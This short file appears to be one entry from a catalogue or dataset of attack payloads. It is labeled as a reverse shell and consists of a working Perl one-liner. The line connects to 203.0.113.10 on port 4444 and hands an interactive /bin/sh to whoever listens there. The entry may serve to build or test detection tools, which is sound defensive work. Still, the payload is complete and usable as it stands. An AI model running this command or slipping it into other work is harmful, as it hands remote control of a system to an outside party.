# description: Opens a reverse shell with a Perl socket one-liner.
# family: reverse-shell
perl -e 'use Socket;$i="203.0.113.10";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
